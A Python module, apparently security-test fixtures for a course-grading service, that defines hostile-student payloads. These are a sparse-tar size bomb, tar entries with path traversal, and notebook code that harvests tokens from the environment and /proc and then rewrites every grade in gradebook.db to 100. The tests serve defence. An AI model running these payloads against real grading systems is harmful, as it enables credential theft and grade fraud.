"""What a hostile student does, in the own workspace and with that workspace's own token."""

# Both archives are sent past every client of ours, straight to the exchange. Printed: status and error code.
_SEND = """
import gzip, io, os, tarfile, urllib.error, urllib.request, uuid

def send(make_archive):
    packed = io.BytesIO()
    with gzip.GzipFile(fileobj=packed, mode="wb") as plain:
        make_archive(plain)
    url = f"{os.environ['ATELIER_SERVICE_URL']}/api/v1/courses/{COURSE}/assignments/{ASSIGNMENT}/submissions"
    headers = {
        "Authorization": f"token {os.environ['JUPYTERHUB_API_TOKEN']}",
        "Content-Type": "application/gzip",
        "Idempotency-Key": uuid.uuid4().hex,
    }
    request = urllib.request.Request(url, packed.getvalue(), headers, method="POST")
    try:
        with urllib.request.urlopen(request, timeout=300) as answer:
            print(answer.status, answer.read().decode())
    except urllib.error.HTTPError as refusal:
        print(refusal.code, refusal.read().decode())
"""

# 3 GiB of holes in one PAX header: 0.1 KB on the way, 3 GiB for whoever believes it.
SPARSE = (
    _SEND
    + """
def sparse(plain):
    with tarfile.open(fileobj=plain, mode="w", format=tarfile.PAX_FORMAT) as tar:
        member = tarfile.TarInfo("answers.ipynb")
        member.pax_headers = {
            "GNU.sparse.major": "0", "GNU.sparse.minor": "1", "GNU.sparse.size": str(3 * 1024**3),
            "GNU.sparse.numblocks": "1", "GNU.sparse.map": f"{3 * 1024**3 - 1},1",
        }
        member.size = 1
        tar.addfile(member, io.BytesIO(b"x"))

send(sparse)
"""
)

# The same file as a student meets it: made in the assignment's folder, then submitted with the button.
MAKE_SPARSE_FILE = """
import os
path = os.path.expanduser(f"~/{COURSE}/{ASSIGNMENT}/measurements.bin")
with open(path, "wb") as file:
    file.truncate(3 * 1024**3)
print(os.stat(path).st_size, os.stat(path).st_blocks)
"""

TRAVERSAL = (
    _SEND
    + """
def traversal(plain):
    with tarfile.open(fileobj=plain, mode="w") as tar:
        for name in ("../../gradebook.db", "/etc/cron.d/atelier", "a/../../../b.ipynb"):
            member = tarfile.TarInfo(name)
            member.size = 4
            tar.addfile(member, io.BytesIO(b"evil"))

send(traversal)
"""
)

# Put before the first answer of a notebook: it runs when the teacher autogrades. The answer stays right.
STOLEN = "ATELIER-TOUR-STOLEN"
LOOKED = "ATELIER-TOUR-LOOKED"
THIEF = """
import os as _os, sqlite3 as _sqlite3
_found = [_n for _n in _os.environ if "TOKEN" in _n or _n.startswith("ATELIER_")]
for _pid in filter(str.isdigit, _os.listdir("/proc")):
    try:
        if b"TOKEN=" in open(f"/proc/{_pid}/environ", "rb").read():
            _found.append(f"/proc/{_pid}/environ")
    except OSError:
        pass
for _folder, _folders, _files in _os.walk("/"):
    _folders[:] = [_f for _f in _folders if _f not in ("proc", "sys", "usr", "lib", "site-packages")]
    if "gradebook.db" in _files:
        _found.append(_os.path.join(_folder, "gradebook.db"))
        try:
            with _sqlite3.connect(_found[-1]) as _db:
                _db.execute("update grade set manual_score = 100, auto_score = 100")
        except Exception:
            pass
print("LOOKED", *(["STOLEN", *_found] if _found else []))
del _found
""".replace("LOOKED", LOOKED).replace("STOLEN", STOLEN)


def for_assignment(program: str, course: str, assignment: str) -> str:
    """Return a program with the course and assignment that it attacks."""
    return f"COURSE, ASSIGNMENT = {course!r}, {assignment!r}\n{program}"
